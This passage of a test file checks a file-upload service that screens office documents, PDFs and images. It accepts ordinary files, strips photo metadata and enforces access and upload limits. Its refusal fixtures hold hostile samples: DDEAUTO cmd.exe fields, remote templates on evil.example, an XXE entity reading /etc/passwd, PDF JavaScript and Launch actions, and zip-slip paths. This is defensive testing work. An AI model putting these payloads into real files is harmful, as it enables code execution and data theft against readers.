import { mkdir, readdir, rm, utimes, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { Readable } from 'node:stream';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type Person, type TestApp, startTestApp } from '#app/testing.ts';
import { Refusal } from '#kit/pure/decision.ts';
import { inTransaction } from '#kit/server/db.ts';
import { newId } from '#kit/server/ids.ts';
import { fileContent } from './contract.ts';
import { attachFiles, detachFile, filesOf, receiveFile, saveFile } from './index.ts';
import { missingBytes, sweepBytes, sweepWaiting } from './sweep.ts';
import { compoundOf, docOf, docxOf, documentXml, jpegOf, ofdOf, pdfOf, pngOf, relation, relations, xlsOf, xlsxOf, zipOf } from './testing/samples.ts';
import { send } from './testing/send.ts';

let app: TestApp;
let ann: Person;
let ben: Person;
beforeAll(async () => {
  app = await startTestApp();
  ann = await app.person('安会员', { memberOf: app.rootId });
  ben = await app.person('白会员', { memberOf: app.rootId });
  const guards = app.app.services.registry.fileGuards as Map<string, (ctx: { actor: { accountId: string | null; grants: readonly { role: string }[] } }, id: string) => Promise<boolean>>;
  guards.set('testMatter', (ctx) => Promise.resolve(ctx.actor.grants.some((g) => g.role === 'editor')));
});
afterAll(async () => {
  (app.app.services.registry.fileGuards as Map<string, unknown>).delete('testMatter');
  await app.close();
});

const put = (bytes: Buffer, name: string, as: Person | null = ann, id: string = newId()) => send(app, { id, name, bytes }, as);
const onDisk = async (): Promise<string[]> => (await readdir(storeFolder(), { recursive: true, withFileTypes: true })).filter((e) => e.isFile()).map((e) => e.name);
const storeFolder = (): string => path.resolve(app.app.services.files.pathOf('0'.repeat(64)), '../../..');
const as = <T>(person: Person, work: Parameters<TestApp['asSystem']>[0] & ((ctx: never) => Promise<T>)) =>
  app.asSystem((ctx) => work({ ...ctx, actor: { ...ctx.actor, kind: 'account', accountId: person.accountId } } as never));
const fetchFile = (id: string, by: Person | null, query: { inline?: string } = {}) => app.app.server.inject({ method: 'GET', url: `/api/files/${id}/content${query.inline ? '?inline=true' : ''}`, headers: by ? { authorization: `Bearer ${by.token}` } : {} });

describe('what offices send is kept', () => {
  test.each([
    ['通知.docx', docxOf('关于开展调研的通知')], ['名单.xlsx', xlsxOf('姓名')], ['公文.ofd', ofdOf('关于开展调研的通知')], ['老通知.doc', docOf('关于开展调研的通知')], ['文稿.wps', docOf('文稿')],
    ['老表.xls', xlsOf([[0x809, Buffer.alloc(16)], [0x85, Buffer.alloc(8)]])], ['表.et', xlsOf([[0x809, Buffer.alloc(16)]])], ['答复.pdf', pdfOf(['<< /Type /Catalog /OpenAction [2 0 R /Fit] >>'])],
    ['照片.jpg', jpegOf(4000, 3000)], ['照片.JPEG', jpegOf(10, 10)], ['截图.png', pngOf(20, 20)], ['说明.txt', Buffer.from('加装电梯，第１批①。')], ['名册.csv', Buffer.from([0xd0, 0xd5, 0xc3, 0xfb, 0x2c, 0x31])],
    ['有图表.docx', docxOf('见图', { 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': xlsxOf('图表数据') })],
    ['有链接.docx', docxOf('见网站', { 'word/_rels/document.xml.rels': relations(relation('hyperlink', 'https://example.org/a?b=1&amp;c=2')) })],
    ['网页图.docx', docxOf('见图', { 'word/header1.xml': documentXml('<w:instrText> INCLUDEPICTURE \\d "https://example.org/a.png" \\* MERGEFORMATINET </w:instrText>') })],
    ['本机图.docx', docxOf('见图', { 'word/header1.xml': documentXml('<w:instrText> INCLUDEPICTURE "C:\\\\Users\\\\a\\\\b.png" \\d </w:instrText>') })],
    ['引号.docx', docxOf('见图', { 'word/header1.xml': documentXml('<w:instrText> QUOTE "2026" </w:instrText><w:instrText> HYPERLINK "https://example.org/link database" </w:instrText>') })],
    ['模板.docx', docxOf('公文', { 'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', 'file:///D:\\office\\公文模板.dot')) })],
    ['多报类型.xlsx', zipOf({ '[Content_Types].xml': '<Types><Default Extension="bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>', 'xl/workbook.xml': '<workbook/>' })],
    ['打印.xlsx', xlsxOf('表', { 'xl/printerSettings/printerSettings1.bin': Buffer.alloc(200, 7) })],
    ['字段.docx', zipOf({ '[Content_Types].xml': '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>', 'word/document.xml': documentXml('<w:instrText> PAGE \\* MERGEFORMAT </w:instrText><w:instrText>ADDED</w:instrText>') })],
  ])('%s', async (name, bytes) => {
    const answer = await put(bytes, name);
    expect(answer.body).toMatchObject({ name });
    expect(answer.status).toBe(200);
  });
});

const vba = compoundOf([{ name: 'VBA', storage: true }, { name: '_VBA_PROJECT', data: Buffer.from('x') }]);
const ole = compoundOf([{ name: '\u0001Ole10Native', data: Buffer.from('package') }]);
const scriptObject = '5 0 << /S /JavaScript /JS (x) >>';
/** Packed without making it smaller, so that the first part stands in it as it is; the second is made smaller. */
const storedAs = (plain: string, small: string): Buffer => {
  const [a, b] = [Buffer.from(plain), deflateRawSync(Buffer.from(small))];
  const stored = Buffer.from([0, a.length, 0, 0xff - a.length, 0xff]);
  let [low, high] = [1, 0];
  for (const byte of Buffer.from(plain + small)) {
    low = (low + byte) % 65_521;
    high = (high + low) % 65_521;
  }
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(high * 65_536 + low);
  return Buffer.concat([Buffer.from([0x78, 0x01]), stored, a, b, sum]);
};
const action = (body: string) => pdfOf([`<< /Type /Catalog ${body} >>`]);

const harmful: [name: string, bytes: Buffer, code: string][] = [
  ['宏.docx', docxOf('a', {}, '', 'docm'), 'file.has_macros'],
  ['宏2.docx', docxOf('a', { 'word/vbaProject.bin': vba }), 'file.has_macros'],
  ['宏3.docx', docxOf('a', { 'word/media/image1.bin': vba }), 'file.has_macros'],
  ['宏4.xlsx', xlsxOf('a', { 'xl/pictures/x.png': vba }), 'file.has_macros'],
  ['宏5.xlsx', xlsxOf('a', { 'xl/macrosheets/sheet1.xml': '<x/>' }), 'file.has_macros'],
  ['宏6.docx', docxOf('a', {}, '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'), 'file.has_macros'],
  ['宏7.docx', docxOf('a', { 'word/_rels/document.xml.rels': relations('<Relationship Id="r" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.dat"/>') }), 'file.has_macros'],
  ['宏.doc', docOf('a', 0, [{ name: 'Macros', storage: true }, { name: 'VBA', storage: true }]), 'file.has_macros'],
  ['宏.xls', xlsOf([[0x809, Buffer.alloc(16)]], [{ name: '_VBA_PROJECT_CUR', storage: true }]), 'file.has_macros'],
  ['老宏.xls', xlsOf([[0x809, Buffer.alloc(16)], [0x85, Buffer.from([0, 0, 0, 0, 0, 1, 0, 0])]]), 'file.has_macros'],
  ['对象.docx', docxOf('a', { 'word/embeddings/oleObject1.bin': ole }), 'file.has_embedded'],
  ['对象2.docx', docxOf('a', { 'word/embeddings/a.bin': 'x' }, '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'), 'file.has_embedded'],
  ['对象3.docx', docxOf('a', { 'word/embeddings/a.xlsx': Buffer.from('MZ\u0090\u0000 not a workbook', 'latin1') }), 'file.has_embedded'],
  ['对象4.docx', docxOf('a', { 'word/media/a.png': zipOf({ 'a.exe': 'x' }) }), 'file.has_embedded'],
  ['对象5.docx', docxOf('a', { 'word/embeddings/a.docx': docxOf('b', { 'word/embeddings/b.docx': docxOf('c') }) }), 'file.has_embedded'],
  ['内宏.docx', docxOf('a', { 'word/embeddings/a.xlsx': xlsxOf('b', { 'xl/vbaProject.bin': vba }) }), 'file.has_macros'],
  ['控件.docx', docxOf('a', { 'word/activeX/activeX1.xml': '<ax/>' }), 'file.has_embedded'],
  ['网页片段.docx', docxOf('a', { 'word/_rels/document.xml.rels': relations(relation('aFChunk', 'afchunk.mht', false)) }), 'file.has_embedded'],
  ['对象.doc', docOf('a', 0, [{ name: 'ObjectPool', storage: true }, { name: '_1234', storage: true }]), 'file.has_embedded'],
  ['对象.xls', xlsOf([[0x809, Buffer.alloc(16)]], [{ name: 'MBD0012ABCD', storage: true }]), 'file.has_embedded'],
  ['远程模板.docx', docxOf('a', { 'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', 'https://evil.example/t.dotm')) }), 'file.has_remote_parts'],
  ['远程模板2.docx', docxOf('a', { 'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', '&#104;ttp://evil.example/t')) }), 'file.has_remote_parts'],
  ['远程模板3.docx', docxOf('a', { 'word/_rels/settings.xml.rels': relations(relation('attachedTemplate', '\\\\evil\\share\\t.dotm')) }), 'file.has_remote_parts'],
  ['远程图片.docx', docxOf('a', { 'word/_rels/document.xml.rels': relations(relation('image', 'file://evil/share/a.png')) }), 'file.has_remote_parts'],
  ['外链.xlsx', xlsxOf('a', { 'xl/externalLinks/_rels/externalLink1.xml.rels': relations(relation('externalLinkPath', 'http://evil.example/b.xlsx')) }), 'file.has_remote_parts'],
  ['DDE.xlsx', xlsxOf('a', { 'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }), 'file.has_remote_parts'],
  ['连接.xlsx', xlsxOf('a', { 'xl/connections.xml': '<connections/>' }), 'file.has_remote_parts'],
  ['DDE.docx', docxOf('a', { 'word/document2.xml': documentXml('<w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>') }), 'file.has_remote_parts'],
  ['DDE2.docx', docxOf('a', { 'word/header1.xml': '<w:fldSimple w:instr="DDE excel x"/>' }), 'file.has_remote_parts'],
  ['DDE3.docx', docxOf('a', { 'word/main.xml': documentXml('<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>') }), 'file.has_remote_parts'],
  ['DDE4.docx', docxOf('a', { 'word/header1.xml': '<x:hdr xmlns:x="w"><x:instrText>DDE excel a</x:instrText></x:hdr>' }), 'file.has_remote_parts'],
  ['DDE5.docx', docxOf('a', { 'word/header1.xml': documentXml('<w:instrText>&#x44;DE<!-- -->AUTO excel a</w:instrText>') }), 'file.has_remote_parts'],
  ['DDE6.docx', docxOf('a', { 'word/header1.xml': documentXml('<w:instrText><![CDATA[DDEAUTO excel a]]></w:instrText>') }), 'file.has_remote_parts'],
  ['DDE7.docx', docxOf('a', { 'word/header1.xml': documentXml('<w:instrText> QUOTE 68 68 69 65 85 84 79 32 99 </w:instrText>') }), 'file.has_remote_parts'],
  ['DDE8.xlsx', xlsxOf('a', { 'xl/other/a.xml': '<externalLink><x:ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }), 'file.has_remote_parts'],
  ['远程文字.docx', docxOf('a', { 'word/header1.xml': documentXml('<w:fldSimple w:instr=" INCLUDETEXT &quot;https://evil.example/t.docx&quot; "/>') }), 'file.has_remote_parts'],
  ['远程图域.docx', docxOf('a', { 'word/header1.xml': documentXml('<w:instrText> INCLUDEPICTURE \\d "\\\\\\\\evil\\\\share\\\\a.png" </w:instrText>') }), 'file.has_remote_parts'],
  ['远程链接域.docx', docxOf('a', { 'word/header1.xml': documentXml('<w:instrText> LINK Excel.Sheet.12 "\\\\\\\\evil\\\\a.xlsx" </w:instrText>') }), 'file.has_remote_parts'],
  ['doctype.docx', docxOf('a', { 'word/document.xml': `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>${documentXml('&e;')}` }), 'file.damaged'],
  ['doctype2.docx', docxOf('a', { 'customXml/item1.xml': '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>' }), 'file.damaged'],
  ['doctype3.xlsx', xlsxOf('a', { 'xl/sharedStrings.xml': `<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><sst>${'<si><t>&b;</t></si>'.repeat(9)}</sst>` }), 'file.damaged'],
  ['doctype4.docx', docxOf('a', { 'docProps/app.xml': Buffer.from('<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd"><x/>', 'utf16le') }), 'file.damaged'],
  ['doctype5.docx', docxOf('a', { 'docProps/app.xml': Buffer.from('\ufeff<x/>', 'utf16le') }), 'file.damaged'],
  ['doctype6.docx', docxOf('a', { 'docProps/app.xml': `<a>${'x'.repeat(65_535 - 6)}<!DOCTYPE x><b/></a>` }), 'file.damaged'],
  ['DDE.doc', docOf('\u0013 DDEAUTO c:\\cmd.exe \u0015'), 'file.has_remote_parts'],
  ['密码.docx', compoundOf([{ name: 'EncryptionInfo', data: Buffer.from('x') }, { name: 'EncryptedPackage', data: Buffer.from('x') }]), 'file.type_differs'],
  ['密码.doc', docOf('a', 0x0100), 'file.encrypted'],
  ['密码2.doc', compoundOf([{ name: 'EncryptedPackage', data: Buffer.from('x') }]), 'file.encrypted'],
  ['密码.xls', xlsOf([[0x809, Buffer.alloc(16)], [0x2f, Buffer.alloc(6)]]), 'file.encrypted'],
  ['密码3.docx', zipOf({ '[Content_Types].xml': 'x' }, { encrypted: true }), 'file.encrypted'],
  ['密码.pdf', pdfOf(['<< /Type /Catalog >>'], '/Encrypt 9 0 R'), 'file.encrypted'],
  ['脚本.pdf', action('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'file.has_script'],
  ['脚本2.pdf', action('/AA << /O << /S /J#61va#53cript /J#53 (x) >> >>'), 'file.has_script'],
  ['脚本3.pdf', pdfOf(['<< /Type /Catalog >>', { dictionary: '/Type /ObjStm /N 1 /First 4', stream: '5 0 << /S /JavaScript /JS (x) >>', flate: true }]), 'file.has_script'],
  ['脚本4.pdf', pdfOf(['<< /Type /Catalog >>', { dictionary: '/Type /ObjStm /N 1 /First 4 /Length1 9 /Subtype /Image', stream: scriptObject, flate: true }]), 'file.has_script'],
  ['脚本5.pdf', pdfOf(['<< /Type /Catalog >>', { dictionary: '/Type /Obj#53tm /N 1 /First 4 /#46ilter /#46lateDecode', stream: deflateSync(scriptObject) }]), 'file.has_script'],
  ['脚本6.pdf', pdfOf(['<< /Type /Catalog >>', { dictionary: '/Type /ObjStm /N 1 /First 4 /X ( obj)', stream: scriptObject, flate: true }]), 'file.has_script'],
  ['脚本7.pdf', pdfOf(['<< /Type /Catalog >>', { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', stream: storedAs('5 0 % endstream\n', '<< /S /JavaScript /JS (x) >>') }]), 'file.has_script'],
  ['脚本8.pdf', pdfOf(['<< /Type /Catalog /X (>> stream\n) /OpenAction << /S /JavaScript /JS (x) >> >>', { stream: 'BT ET' }]), 'file.has_script'],
  ['脚本9.pdf', pdfOf(['<< /Type /Catalog /Filter /FlateDecode /X (stream\n) /OpenAction << /S /Launch /F (cmd.exe) >> >>', { stream: 'BT ET' }]), 'file.has_script'],
  ['脚本10.pdf', Buffer.concat([pdfOf(['<< /Type /Catalog >>']), pdfOf(['<< /Type /Catalog /OpenAction << /S /JavaScript /JS (x) >> >>'], '/Prev 9')]), 'file.has_script'],
  ['藏对象.pdf', pdfOf(['<< /Type /Catalog /X (>> stream\n) >>', { dictionary: '/Type /ObjStm /N 1 /First 4', stream: scriptObject, flate: true }]), 'file.damaged'],
  ['怪对象.pdf', pdfOf(['<< /Type /Catalog >>', { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', stream: `${deflateSync(scriptObject).toString('hex')}>` }]), 'file.damaged'],
  ['坏对象.pdf', pdfOf(['<< /Type /Catalog >>', { dictionary: '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', stream: 'x' }]), 'file.damaged'],
  ['启动.pdf', action('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'file.has_script'],
  ['表单.pdf', action('/AcroForm << /XFA [] >>'), 'file.has_script'],
  ['附件.pdf', action('/Names << /EmbeddedFiles << >> >>'), 'file.has_embedded'],
  ['大图.png', pngOf(30_000, 30_000), 'file.too_many_pixels'], ['大图.jpg', jpegOf(30_000, 30_000), 'file.too_many_pixels'], ['断图.jpg', jpegOf(10, 10, { cut: true }), 'file.damaged'],
  ['网页.jpg', Buffer.from('<html><script>alert(1)</script></html>'), 'file.type_differs'], ['图.svg', Buffer.from('<svg onload="alert(1)"/>'), 'file.unknown_type'],
  ['动图.jpg', Buffer.from('GIF89a/*<svg>*/=1;alert(1)', 'latin1'), 'file.type_differs'], ['网页.txt', Buffer.from('  <!DOCTYPE html><script>1</script>'), 'file.type_differs'],
  ['信.txt', Buffer.from('MIME-Version: 1.0\nContent-Type: multipart/related'), 'file.type_differs'], ['样式.csv', Buffer.from('<?xml version="1.0"?><?xml-stylesheet href="x"?>'), 'file.type_differs'],
  ['前缀.pdf', Buffer.concat([Buffer.from('<html>'), action('')]), 'file.type_differs'], ['程序.txt', Buffer.from('MZ\u0090\0\u0003\0\0\0', 'latin1'), 'file.type_differs'],
  ['老.docx', docOf('a'), 'file.type_differs'], ['新.doc', docxOf('a'), 'file.type_differs'], ['表.docx', xlsxOf('a'), 'file.type_differs'], ['表.doc', xlsOf([[0x809, Buffer.alloc(16)]]), 'file.type_differs'],
  ['包.zip', zipOf({ a: 'b' }), 'file.archive_refused'], ['假.docx', zipOf({ a: 'b' }), 'file.archive_refused'], ['假.pdf', zipOf({ a: 'b' }), 'file.type_differs'], ['空.txt', Buffer.alloc(0), 'file.empty'],
  ['滑.docx', zipOf({ '[Content_Types].xml': 'x', '../../evil.xml': 'x' }), 'file.damaged'], ['炸.docx', docxOf('a', { 'word/a.xml': Buffer.alloc(30_000_000, 32) }), 'file.damaged'],
  ['断.docx', docxOf('a').subarray(0, 200), 'file.damaged'], ['断.doc', docOf('a').subarray(0, 1600), 'file.damaged'], ['断.pdf', Buffer.from('%PDF-1.7\nhello'), 'file.damaged'], ['乱.txt', Buffer.from([0xff, 0xff, 0, 1, 2, 0x80]), 'file.type_differs'],
];

describe('what may harm is refused, with a sentence', () => {
  test.each(harmful)('%s', async (name, bytes, code) => {
    const before = await onDisk();
    const answer = await put(bytes, name);
    expect({ code: answer.error?.code, status: answer.status >= 400 }).toEqual({ code, status: true });
    expect(answer.error?.message).toMatch(/[请严].*。$/);
    expect(await onDisk()).toEqual(before);
  });
});

describe('controls: where nobody looks into a file', () => {
  /** Takes a file as an upload does, but for the look into it. */
  const unseen = async (bytes: Buffer, name: string): Promise<string> => {
    const got = await app.app.services.files.receive(Readable.from([bytes]), 50_000_000);
    const id = newId();
    await as(ann, (ctx) => receiveFile(ctx, { upload: { ...got, fileName: name } }, { id }, () => Promise.resolve({ cleaned: null })));
    return id;
  };

  test('what may harm is kept, and what it carries comes back', async () => {
    const inside = harmful.filter(([name, , code]) => !['file.unknown_type', 'file.archive_refused', 'file.empty'].includes(code) && name !== '');
    const kept: string[] = [];
    for (const [name, bytes] of inside) {
      const id = await unseen(bytes, name);
      if ((await fetchFile(id, ann)).rawPayload.equals(bytes)) kept.push(name);
      await app.connection.db.deleteFrom('files').where('id', '=', id).execute();
    }
    expect(kept).toHaveLength(inside.length);
    expect(kept.length).toBeGreaterThan(60);
  });

  test('a photo keeps its place and what follows its end', async () => {
    const id = await unseen(jpegOf(4000, 3000, { orientation: 6, after: Buffer.from('<script>GPS</script>') }), '现场.jpg');
    const text = (await fetchFile(id, ann)).rawPayload.toString('latin1');
    for (const trace of ['GPS', 'PhoneCam', 'script']) expect(text).toContain(trace);
  });
});

describe('a mark of secrecy stops the upload and says what to do', () => {
  const cmap = { stream: '/CIDInit /ProcSet findresource begin begincmap 2 beginbfchar <01> <673A> <02> <5BC6> endbfchar 1 beginbfrange <03> <03> <2605> endbfrange endcmap', flate: true };
  test.each([
    ['机密★1年.txt', Buffer.from('a')], ['【绝密】名单.pdf', action('')], ['a.txt', Buffer.from('内部 机 密 ★ 5年')], ['gbk.txt', Buffer.from([0xbb, 0xfa, 0xc3, 0xdc, 0xa1, 0xef])],
    ['a.docx', docxOf('秘密★长期')], ['分段.docx', docxOf('a', { 'word/header1.xml': '<w:hdr><w:t>机</w:t></w:r><w:r><w:t>密</w:t></w:r> <w:r><w:t>★1年</w:t></w:hdr>' })], ['a.xlsx', xlsxOf('绝密★')], ['a.ofd', ofdOf('秘密★')],
    ['a.doc', docOf('甲　机密★')], ['标题.pdf', pdfOf(['<< /Title <FEFF79D85BC62605> >>'])],
    ['正文.pdf', pdfOf(['<< >>', { stream: 'BT /F1 12 Tf [<01> -20 <02>] TJ <03> Tj ET', flate: true }, cmap])], ['正文2.pdf', pdfOf(['<< >>', { stream: 'BT (\\001\\002\\003) Tj ET' }, cmap])],
  ])('%s', async (name, bytes) => {
    const answer = await put(bytes, name);
    expect(answer.error?.code).toBe('file.marked_secret');
    expect(answer.error?.message).toContain('机要渠道');
  });

  test('a PDF whose font knows the signs but shows other text is kept', async () => {
    expect((await put(pdfOf(['<< >>', { stream: 'BT <0102> Tj <0203> Tj ET', flate: true }, cmap]), 'ok.pdf')).status).toBe(200);
  });
});

describe('pictures', () => {
  test('a photo keeps which way is up and loses place, camera, notes and what follows its end', async () => {
    const { body } = await put(jpegOf(4000, 3000, { orientation: 6, after: Buffer.from('<script>GPS</script>PK\u0003\u0004') }), '现场.jpg');
    const got = (await fetchFile(body.id, ann)).rawPayload;
    const text = got.toString('latin1');
    for (const trace of ['GPS', 'PhoneCam', 'xmpmeta', 'Photoshop', 'somebody', 'script']) expect(text).not.toContain(trace);
    expect(got.subarray(0, 4).toString('hex')).toBe('ffd8ffe1');
    expect(got.readUInt16BE(12 + 18)).toBe(6);
    expect(got.subarray(-2).toString('hex')).toBe('ffd9');
    expect(text.split('\u00ff\u00da').length - 1).toBe(2);
  });

  test('a photo loses the small picture of it that its first segment may carry, and what was written there', async () => {
    const photo = jpegOf(40, 30, { orientation: 1 });
    const thumbnail = Buffer.concat([Buffer.from([0xff, 0xe0, 0, 16 + 27 + 9]), Buffer.from('JFIF\0\u0001\u0001\0\0\u0048\0\u0048\u0003\u0003', 'latin1'), Buffer.alloc(27, 0x5a), Buffer.from('GPSplaces')]);
    const { body } = await put(Buffer.concat([photo.subarray(0, 2), thumbnail, photo.subarray(20)]), '缩略.jpg');
    const got = (await fetchFile(body.id, ann)).rawPayload;
    expect(got.toString('latin1')).not.toMatch(/ZZZ|GPS/);
    expect(got.subarray(2, 20).toString('hex')).toBe('ffe000104a46494600010100004800480000');
  });

  test('a photo that stands upright carries no orientation at all', async () => {
    const { body } = await put(jpegOf(40, 30, { orientation: 1 }), '正.jpg');
    expect((await fetchFile(body.id, ann)).rawPayload.toString('latin1')).not.toContain('Exif');
  });

  test('a PNG keeps its picture and loses texts, place, animation and what follows its end', async () => {
    const bytes = pngOf(8, 8, [['tEXt', Buffer.from('Author\0somebody')], ['eXIf', Buffer.from('GPS')], ['acTL', Buffer.alloc(8)], ['fdAT', Buffer.alloc(4)]], Buffer.from('<script>'));
    const { body } = await put(bytes, 'a.png');
    expect((await fetchFile(body.id, ann)).rawPayload.equals(pngOf(8, 8))).toBe(true);
  });
});

describe('who may read', () => {
  test('until it belongs to something only the uploader may; then the guard of its subject decides', async () => {
    const editor = await app.person('贾编辑', { roles: ['editor'] });
    const { body } = await put(Buffer.from('内容'), '材料.txt');
    const subject = { type: 'testMatter', id: newId() };
    expect((await fetchFile(body.id, ann)).statusCode).toBe(200);
    for (const other of [ben, editor]) expect((await fetchFile(body.id, other)).statusCode).toBe(404);
    expect((await fetchFile(body.id, null)).statusCode).toBe(401);
    await expect(as(ben, (ctx) => attachFiles(ctx, [body.id], subject))).rejects.toMatchObject({ code: 'file.not_found' });
    await as(ann, (ctx) => attachFiles(ctx, [body.id], subject, { label: '附件' }));
    await as(ann, (ctx) => attachFiles(ctx, [body.id], subject));
    expect(await app.asSystem((ctx) => filesOf(ctx, subject))).toMatchObject([{ id: body.id, name: '材料.txt', label: '附件', uploadedBy: '安会员' }]);
    expect((await fetchFile(body.id, editor)).statusCode).toBe(200);
    expect((await fetchFile(body.id, ann)).statusCode).toBe(404);
    await expect(as(ann, (ctx) => attachFiles(ctx, [body.id], { type: 'testMatter', id: newId() }))).rejects.toMatchObject({ code: 'file.not_found' });

    await app.connection.db.updateTable('role_grants').set({ ended_at: app.now }).where('account_id', '=', editor.accountId).execute();
    const denied = await fetchFile(body.id, editor);
    const absent = await fetchFile(newId(), editor);
    expect(denied.statusCode).toBe(404);
    expect(JSON.parse(denied.body).error.message).toBe(JSON.parse(absent.body).error.message);

    await app.asSystem((ctx) => detachFile(ctx, body.id, subject));
    expect(await app.asSystem((ctx) => filesOf(ctx, subject))).toEqual([]);
    expect((await fetchFile(body.id, ann)).statusCode).toBe(404);
  });

  test('control: a guard that asks nothing would let in whoever lost the role', async () => {
    const subject = { type: 'openMatter', id: newId() };
    const { body } = await put(Buffer.from('敞开'), '敞开.txt');
    await as(ann, (ctx) => attachFiles(ctx, [body.id], subject));
    const guards = app.app.services.registry.fileGuards as Map<string, unknown>;
    const editor = await app.person('前编辑', { roles: ['editor'] });
    await app.connection.db.updateTable('role_grants').set({ ended_at: app.now }).where('account_id', '=', editor.accountId).execute();
    expect((await fetchFile(body.id, editor)).statusCode).toBe(404);
    guards.set('openMatter', () => Promise.resolve(true));
    expect((await fetchFile(body.id, editor)).statusCode).toBe(200);
    guards.delete('openMatter');
  });

  test('a subject without a guard, and a restricted file without a guard of its own, is read by nobody', async () => {
    const editor = await app.person('易编辑', { roles: ['editor'] });
    const subject = { type: 'testMatter', id: newId() };
    const unknown = await app.asSystem((ctx) => saveFile(ctx, { name: 'a.txt', mime: 'text/plain', bytes: Buffer.from('a'), subject: { type: 'noGuard', id: newId() } }));
    const restricted = await app.asSystem((ctx) => saveFile(ctx, { name: 'b.txt', mime: 'text/plain', bytes: Buffer.from('b'), subject, restricted: true }));
    for (const id of [unknown, restricted]) expect((await fetchFile(id, editor)).statusCode).toBe(404);
    expect(await app.asSystem((ctx) => filesOf(ctx, subject))).toEqual([]);
    expect(await app.asSystem((ctx) => filesOf(ctx, subject, { restricted: true }))).toHaveLength(1);
  });

  test('a file is saved, never run: attachment, sandbox, nosniff, no-store; only pictures and PDF may be shown', async () => {
    const text = (await put(Buffer.from('a'), '甲:乙\u202e.txt')).body;
    const picture = (await put(pngOf(4, 4), '图.png')).body;
    const headers = async (id: string, inline: boolean) => (await fetchFile(id, ann, inline ? { inline: 'true' } : {})).headers;
    for (const h of [await headers(text.id, true), await headers(picture.id, false)]) expect(h['content-disposition']).toMatch(/^attachment;/);
    expect((await headers(picture.id, true))['content-disposition']).toMatch(/^inline;/);
    expect(await headers(text.id, false)).toMatchObject({ 'content-security-policy': "default-src 'none'; sandbox", 'x-content-type-options': 'nosniff', 'cache-control': 'no-store' });
    expect((await headers(text.id, false))['content-disposition']).toContain(encodeURIComponent('甲_乙.txt'));
  });
});

describe('uploading again', () => {
  test('a repeat with the same id answers as the first time; other bytes or another person with that id are refused', async () => {
    const id = newId();
    const photo = jpegOf(40, 30);
    const first = await put(photo, 'a.jpg', ann, id);
    expect(await put(photo, 'a.jpg', ann, id)).toEqual(first);
    expect((await put(jpegOf(41, 30), 'a.jpg', ann, id)).error?.code).toBe('request.key_reused');
    expect((await put(photo, 'a.jpg', ben, id)).error?.code).toBe('request.key_reused');
    expect((await put(photo, 'a.jpg', null)).status).toBe(401);
  });

  test('who came by a link brings at most forty files a day, those taken back among them', async () => {
    const link = newId();
    const rows = (n: number, removed: Date | null) => Array.from({ length: n }, () => ({ association_id: app.associationId, id: newId(), sha256: 'a'.repeat(64), name: 'a', mime: 'b', size: 1, uploaded_by: null, uploaded_link: link, uploaded_at: app.now, removed_at: removed }));
    await app.connection.db.insertInto('files').values([...rows(20, app.now), ...rows(19, null)] as never).execute();
    const bring = (at: Date) => app.asSystem(async (ctx) => {
      const bytes = Buffer.from('a,b\n');
      const upload = { ...(await ctx.app.files.receive(Readable.from([bytes]), 1000)), fileName: 'a.csv' };
      return receiveFile({ ...ctx, now: at, actor: { ...ctx.actor, kind: 'link', accountId: null, sessionId: link } }, { upload }, { id: newId() }).then(() => 'kept', (e: unknown) => (e instanceof Refusal ? e.code : String(e)));
    });
    expect([await bring(app.now), await bring(app.now), await bring(new Date(app.now.getTime() + 25 * 3_600_000))]).toEqual(['kept', 'file.too_many_waiting', 'kept']);
    await app.connection.db.deleteFrom('files').where('uploaded_link', '=', link).execute();
  });

  test('nobody keeps more than a hundred uploads that belong to nothing', async () => {
    const eve = await app.person('余会员');
    await app.connection.db.insertInto('files').values(Array.from({ length: 100 }, () => ({ association_id: app.associationId, id: newId(), sha256: 'a'.repeat(64), name: 'a', mime: 'b', size: 1, uploaded_by: eve.accountId, uploaded_at: app.now }))).execute();
    expect((await put(Buffer.from('a'), 'a.txt', eve)).error?.code).toBe('file.too_many_waiting');
    await app.connection.db.deleteFrom('files').where('uploaded_by', '=', eve.accountId).execute();
  });
});

describe('sweeping', () => {
  const all = Array.from({ length: 256 }, (_, i) => i.toString(16).padStart(2, '0'));
  const age = async (hash: string): Promise<void> => {
    const long = new Date(Date.now() - 2 * 86_400_000);
    await utimes(app.app.services.files.pathOf(hash), long, long);
  };
  const hashOf = async (id: string): Promise<string> => (await app.connection.db.selectFrom('files').select('sha256').where('id', '=', id).executeTakeFirstOrThrow()).sha256;

  test('uploads that nobody attached go after 24 hours, with their bytes; what is attached stays', async () => {
    const lost = (await put(Buffer.from('lost'), 'lost.txt')).body.id;
    const kept = (await put(Buffer.from('kept'), 'kept.txt')).body.id;
    await as(ann, (ctx) => attachFiles(ctx, [kept], { type: 'testMatter', id: newId() }));
